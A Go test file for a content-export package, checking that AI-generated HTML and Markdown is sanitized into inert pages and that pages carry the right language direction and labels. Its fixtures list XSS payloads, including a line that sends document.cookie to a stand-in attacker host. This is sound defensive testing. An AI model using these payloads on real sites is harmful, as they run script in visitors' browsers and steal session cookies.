package export

import (
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"contentfactory.dev/factory/shared/content"
)

// hostileHTML is model output trying to get script, frames, styles or
// resources into the page with HTML.
var hostileHTML = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<a href="javascript:alert(1)">raw link</a>`,
	`<a href="  JAVASCRIPT:alert(1)">spaced link</a>`,
	`<a href="vbscript:msgbox(1)">vb</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<style>body{display:none}</style>`,
	`<div style="background:url(https://evil.example/t.png)" onclick="steal()">styled</div>`,
	`<svg onload=alert(1)><circle r=1></circle></svg>`,
	`<object data="https://evil.example/x.swf"></object><embed src="x.swf">`,
	`<form action="https://evil.example/"><input name=q><button formaction="javascript:alert(1)">go</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
}

// hostileMarkdown tries the same with Markdown syntax.
var hostileMarkdown = []string{
	`[click me](javascript:alert(1))`,
	`[click me](JaVaScRiPt:alert(document.cookie))`,
	`[tab](java&#x09;script:alert(1))`,
	`[entity](&#106;avascript:alert(1))`,
	`<javascript:alert(1)>`,
	`[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![pixel](data:image/png;base64,iVBORw0KGgo=)`,
	`![svg](data:image/svg+xml,<svg onload=alert(1)>)`,
	`[ref][1]

[1]: javascript:alert(1)`,
}

// rawBlock is a raw HTML block: Markdown passes such blocks through as
// HTML when raw HTML is allowed.
const rawBlock = "<div onmouseover=\"alert(1)\">\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\n</div>"

// allowedElements are the elements a sanitized body may hold.
var allowedElements = map[string]bool{
	"main": true, "p": true, "h1": true, "h2": true, "h3": true, "h4": true, "ul": true, "ol": true, "li": true,
	"a": true, "strong": true, "em": true, "del": true, "code": true, "pre": true, "blockquote": true, "br": true,
	"hr": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "sup": true,
}

// assertInert parses an HTML fragment as a browser would and checks it can
// run nothing and load nothing but http(s) links: only harmless elements,
// no event handler or style attribute, no URL with another scheme.
func assertInert(t *testing.T, fragment string) {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "main", DataAtom: atom.Main}
	nodes, err := html.ParseFragment(strings.NewReader(fragment), ctx)
	require.NoError(t, err)
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			assert.True(t, allowedElements[n.Data], "element <%s> in %q", n.Data, fragment)
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				assert.False(t, strings.HasPrefix(key, "on"), "event handler %s in %q", a.Key, fragment)
				assert.NotContains(t, []string{"style", "srcdoc", "formaction", "action", "srcset"}, key, fragment)
				if key == "href" || key == "src" || key == "cite" {
					u, err := url.Parse(strings.TrimSpace(a.Val))
					if assert.NoError(t, err, a.Val) {
						assert.Contains(t, []string{"", "http", "https", "mailto"}, strings.ToLower(u.Scheme), "%s=%q", key, a.Val)
					}
					assert.NotEqual(t, "src", key, "no resource is loaded: %s", a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	low := strings.ToLower(fragment)
	for _, tag := range []string{"<script", "<iframe", "<style", "<object", "<embed", "<svg", "<math", "<form", "<meta", "<base", "<link"} {
		assert.NotContains(t, low, tag)
	}
}

func hostileBundle() Bundle {
	all := strings.Join(append(append([]string{}, hostileHTML...), hostileMarkdown...), "\n\n")
	return Bundle{
		Title: `Tides </title><script>alert("title")</script>`,
		Topic: "Tides",
		Docs: []Doc{
			{Format: content.FormatOnePager, Value: &content.OnePager{
				Title:            "Tides",
				ExecutiveSummary: "Tides are **long waves** driven by the Moon. " + hostileHTML[0],
				KeyTakeaways:     content.Takeaways(append(append([]string{"Read [the NOAA primer](https://oceanservice.noaa.gov/education/tutorial_tides/)."}, hostileHTML...), hostileMarkdown...)...),
				MainContent:      all + "\n\n" + rawBlock + "\n\nThe end.",
			}},
			{Format: content.FormatFAQs, Value: &content.FAQs{Title: "Tides", FAQs: []content.FAQ{
				{Question: `Why two tides a day? <img src=x onerror=alert(1)>`, Answer: rawBlock, Category: `<script>x</script>`},
			}}},
			{Format: content.FormatFlashcards, Value: &content.Flashcards{Title: "Tides", Cards: []content.Flashcard{
				{Front: "Spring tide", Back: "Largest range <iframe src=//evil.example></iframe>", Difficulty: "easy"},
				{Front: "Neap tide", Back: "Smallest range", Difficulty: "medium"},
			}}},
		},
	}
}

func TestHTMLOfHostileOutputIsInert(t *testing.T) {
	t.Parallel()
	doc := string(HTML(hostileBundle()))
	head, body, ok := strings.Cut(doc, "<body>")
	require.True(t, ok)
	assertInert(t, body)

	// The page's own parts, once each, and nothing else of the kind.
	assert.True(t, strings.HasPrefix(doc, "<!DOCTYPE html>\n"))
	assert.Contains(t, head, `<meta charset="utf-8">`)
	assert.Contains(t, head, `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`)
	assert.Equal(t, 1, strings.Count(doc, "<style>"), "only the page's stylesheet")
	assert.Equal(t, 0, strings.Count(strings.ToLower(doc), "<script"))
	assert.Contains(t, head, "<title>Tides &lt;/title&gt;&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;</title>")
	assert.True(t, strings.HasSuffix(doc, "</main>\n</body>\n</html>\n"))

	// What is safe survives.
	assert.Contains(t, body, "<strong>long waves</strong>")
	assert.Regexp(t, `<a href="https://oceanservice\.noaa\.gov/education/tutorial_tides/" rel="nofollow noreferrer">the NOAA primer</a>`, body)
	assert.Contains(t, body, "<table>")
	assert.Contains(t, body, `<td dir="auto">Spring tide</td>`)
	assert.Contains(t, body, "The end.")
}

func TestHTMLContentsLinksReachTheirSections(t *testing.T) {
	t.Parallel()
	doc := string(HTML(hostileBundle()))
	links := regexp.MustCompile(`<a href="#([a-z0-9-]+)"`).FindAllStringSubmatch(doc, -1)
	require.Len(t, links, 3)
	for _, l := range links {
		assert.Contains(t, doc, `id="`+l[1]+`"`, "section %s", l[1])
	}
}

// The sanitizer alone makes raw hostile HTML inert: it does not rely on
// the Markdown renderer having left raw HTML out.
func TestSanitizeRawHTML(t *testing.T) {
	t.Parallel()
	for _, h := range append(hostileHTML, rawBlock) {
		out := string(sanitize([]byte(h)))
		assertInert(t, out)
	}
	assert.Equal(t, `<p>ok <a href="https://example.com/" rel="nofollow noreferrer">x</a></p>`,
		string(sanitize([]byte(`<p onclick="x()">ok <a href="https://example.com/" target="_top">x</a></p>`))))
	assert.Equal(t, `x`, string(sanitize([]byte(`<a href="data:text/html,hi">x</a>`))), "a data: link is no link")
	assert.Empty(t, string(sanitize([]byte(`<img src="data:image/png;base64,iVBORw0KGgo=" alt="p">`))), "no image")
}

func TestHTMLOfAnEmptyBundle(t *testing.T) {
	t.Parallel()
	doc := string(HTML(Bundle{Title: "Empty"}))
	assert.Contains(t, doc, "<title>Empty</title>")
	assert.Contains(t, doc, `<h1 id="empty" dir="auto">Empty</h1>`)
}

func TestHTMLCarriesTheLanguageAndItsDirection(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ lang, html string }{
		{"ar-EG", `<html lang="ar-EG" dir="rtl">`},
		{"he", `<html lang="he" dir="rtl">`},
		{"fa-IR", `<html lang="fa-IR" dir="rtl">`},
		{"ja-JP", `<html lang="ja-JP" dir="ltr">`},
		{"es-ES", `<html lang="es-ES" dir="ltr">`},
		{"", `<html dir="ltr">`},
		{`x" onload="y`, `<html dir="ltr">`},
	} {
		doc := string(HTML(Bundle{Title: "البناء الضوئي", Language: c.lang, Docs: []Doc{{Format: content.FormatOnePager,
			Value: &content.OnePager{Title: "البناء الضوئي", ExecutiveSummary: "البناء الضوئي عملية تصنع بها النباتات غذاءها.",
				KeyTakeaways: content.Takeaways("DNA is a molecule."), MainContent: "نص"}}}}))
		assert.Contains(t, doc, c.html, c.lang)
	}
	doc := string(HTML(Bundle{Title: "البناء الضوئي", Language: "ar", Docs: []Doc{{Format: content.FormatOnePager,
		Value: &content.OnePager{Title: "البناء الضوئي", ExecutiveSummary: "البناء الضوئي عملية تصنع بها النباتات غذاءها.",
			KeyTakeaways: content.Takeaways("DNA is a molecule."), MainContent: "نص"}}}}))
	assert.Contains(t, doc, `<p dir="auto">البناء الضوئي عملية`, "each block takes its own direction")
	assert.Contains(t, doc, `<li dir="auto">DNA is a molecule.</li>`, "a Latin line in an Arabic page reads left to right")
	assert.Contains(t, doc, "border-inline-start", "the page's rules follow the direction")
	assert.NotContains(t, doc, "text-align:left")
}

// TestBundleLabelsAndLinksInTheLanguage renders a Japanese and a Spanish
// bundle: the exports' own labels are the language's, and every link of
// the contents leads to a heading of the page, whatever its script.
func TestBundleLabelsAndLinksInTheLanguage(t *testing.T) {
	t.Parallel()
	docs := []Doc{
		{Format: content.FormatOnePager, Value: &content.OnePager{Title: "光合成", ExecutiveSummary: "光合成は植物の仕組みです。",
			KeyTakeaways: content.Takeaways("葉緑体で起こる。"), MainContent: "本文"}},
		{Format: content.FormatFAQs, Value: &content.FAQs{Title: "光合成", FAQs: []content.FAQ{{Question: "光合成とは何ですか？", Answer: "光のエネルギーを使う仕組みです。", Category: "定義"}}}},
	}
	page := string(HTML(Bundle{Title: "光合成", Topic: "植物", Language: "ja-JP", Docs: docs}))
	for _, want := range []string{">目次</h2>", ">一枚まとめ</h2>", ">よくある質問</h2>", ">要点</h3>", "テーマ：植物"} {
		assert.Contains(t, page, want)
	}
	links := regexp.MustCompile(`href="#([^"]+)"`).FindAllStringSubmatch(page, -1)
	require.Len(t, links, 2, "one link per format")
	for _, l := range links {
		id, err := url.PathUnescape(l[1]) // a browser finds the element whose id is the decoded fragment
		require.NoError(t, err)
		assert.Contains(t, page, `id="`+id+`"`, "the contents' link to %s leads to its heading", id)
	}
	md := string(Markdown(Bundle{Title: "La luz", Language: "es-ES", Docs: []Doc{{Format: content.FormatFlashcards,
		Value: &content.Flashcards{Title: "La luz", Cards: []content.Flashcard{{Front: "¿Qué es un fotón?", Back: "Una partícula de luz.", Difficulty: "easy"}}}}}}))
	assert.Contains(t, md, "| # | Anverso | Reverso | Dificultad |")
	assert.Contains(t, md, "| fácil |")
	assert.Contains(t, md, "## Índice")
	assert.NotContains(t, md, "Contents")
}
